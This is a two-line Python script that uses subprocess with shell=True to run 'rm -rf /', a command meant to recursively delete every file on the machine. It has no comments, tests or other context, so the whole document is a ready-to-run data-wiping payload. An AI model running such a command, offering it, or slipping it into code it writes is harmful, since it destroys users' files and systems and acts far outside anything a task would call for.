import subprocess
subprocess.call('rm -rf ' + '/', shell=True)
